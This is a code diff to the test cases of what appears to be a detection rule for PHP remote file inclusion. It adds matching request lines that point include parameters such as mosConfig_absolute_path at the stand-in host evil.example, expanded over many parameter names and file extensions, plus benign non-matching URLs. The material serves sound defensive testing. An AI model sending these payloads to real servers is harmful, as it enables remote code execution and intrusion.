@@ -1,3 +1,4 @@
+import { each } from '../example.ts'
 import { defineRule } from '../rule.ts'
 
 export default defineRule({
@@ -26,10 +27,24 @@ export default defineRule({
     'GET /index.php?mosConfig_absolute_path=http://evil.example/a.txt HTTP/1.1',
     'GET /index.php?page=https://evil.example/run.php HTTP/1.1',
     'GET /index.php?include_path=http://evil.example/? HTTP/1.1',
+    ...each(
+      'GET /index.php?{}_absolute_path=http://evil.example/a.txt HTTP/1.1',
+      `globals _server _request _conf phpbb config abs basepath base_path base_dir basedir root server_base
+    dir_ path_ prefix inc lib classpath class_path template tpl skin theme lang mod pag file load body
+    content main section menu header footer cmd exec plugin`,
+    ),
+    'GET /index.php?mosConfig_absolute_path=ftp://evil.example/a.txt HTTP/1.1',
+    'GET /index.php?mosConfig_absolute_path=http://evil.example/a/ HTTP/1.1',
+    ...each(
+      'GET /index.php?mosConfig_absolute_path=http://evil.example/a.{} HTTP/1.1',
+      'phtml inc dat log pl py cgi sh asp jsp',
+    ),
+    'GET /index.php?mosConfig_absolute_path=ftps://evil.example/a.txt HTTP/1.1',
   ],
   misses: [
     'GET /share?url=https://news.example/story.php HTTP/1.1',
     'GET /view?file=https://cdn.example/report.pdf HTTP/1.1',
     'GET /player?content=https://cdn.example/film.mp4 HTTP/1.1',
+    { message: 'mosConfig_absolute_path=http://evil.example/a.txt' },
   ],
 })
